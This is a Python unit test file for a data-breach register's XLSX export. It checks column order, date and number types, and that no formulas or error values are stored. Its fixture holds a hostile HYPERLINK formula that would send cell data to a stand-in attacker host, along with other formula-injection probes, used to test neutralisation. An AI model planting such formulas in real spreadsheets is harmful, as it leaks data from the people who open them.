"""The breach register as XLSX: the CSV's flat columns, read back with openpyxl as a spreadsheet would read them."""

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime

from openpyxl import load_workbook

from datalek.register_xlsx import DATE_COLUMNS, to_xlsx
from incidents import register
from tests.unit.notifications.conftest import assessed_incident

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
TRAIL = [{"at": "2026-11-20T10:31:00+00:00", "actor": "fien", "action": "status.changed", "from_status": "triage",
          "to_status": "confirmed", "reason": "=1+1"}]


def _entries():
    hostile = replace(assessed_incident(), id="i-hostile", title=HOSTILE, asset="@srv")
    entry = register.entry(hostile, TRAIL) | {"meldnummer": "#N/A", "delay_reason": "-2+3 uur\x01later"}
    plain = register.entry(replace(assessed_incident(), id="i-plain", facts=None), [])
    return [entry, plain]


def _sheet(entries):
    return load_workbook(io.BytesIO(to_xlsx(entries)))["register"]


def test_header_is_the_csv_header_bold_and_frozen_with_one_row_per_incident():
    sheet = _sheet(_entries())
    assert [c.value for c in sheet[1]] == list(register.FLAT_COLUMNS)
    assert all(c.font.b for c in sheet[1]) and not sheet["A2"].font.b
    assert sheet.freeze_panes == "A2" and sheet.max_row == 3
    assert [sheet.cell(row=r, column=1).value for r in (2, 3)] == ["i-hostile", "i-plain"]


def test_no_formula_or_error_is_ever_stored_text_starting_with_one_stays_text():
    sheet = _sheet(_entries())
    row = dict(zip(register.FLAT_COLUMNS, sheet[2], strict=True))
    assert row["title"].value == HOSTILE and row["title"].data_type == "s" and row["title"].quotePrefix
    assert row["asset"].value == "@srv" and row["asset"].data_type == "s"
    assert row["meldnummer"].value == "#N/A" and row["meldnummer"].data_type == "s"  # not the error #N/A
    assert row["delay_reason"].value == "-2+3 uur\\u0001later"  # a control character the format forbids, shown
    assert not [c.coordinate for line in sheet.iter_rows() for c in line if c.data_type == "f"]
    assert "<f>" not in _sheet_xml(_entries())


def test_cells_hold_what_the_csv_holds_times_as_dates_in_utc_numbers_as_numbers():
    entries = _entries()
    sheet = _sheet(entries)
    rows = list(csv.DictReader(io.StringIO(register.to_csv(entries))))
    for line, csv_row in zip(sheet.iter_rows(min_row=2), rows, strict=True):
        for column, cell in zip(register.FLAT_COLUMNS, line, strict=True):
            shown = csv_row[column]
            if cell.value is None:
                assert shown == "", column
            elif column in DATE_COLUMNS:
                assert cell.is_date and cell.value == datetime.fromisoformat(shown).astimezone(UTC).replace(
                    tzinfo=None), column
            elif isinstance(cell.value, int | float):
                assert float(shown) == cell.value, column
            else:  # the CSV neutralises formulas with a quote; the workbook needs none
                assert shown in (cell.value, "'" + cell.value) or "\\u0001" in cell.value, column
    hostile = dict(zip(register.FLAT_COLUMNS, sheet[2], strict=True))
    assert hostile["opened_at_amsterdam"].value.endswith(("CET", "CEST"))
    assert hostile["last_audit_at"].value == datetime(2026, 11, 20, 10, 31)
    assert hostile["audit_entries"].value == 1 and hostile["audit_entries"].data_type == "n"
    assert hostile["data_categories"].value and "[" not in hostile["data_categories"].value


def _sheet_xml(entries) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(to_xlsx(entries))) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()
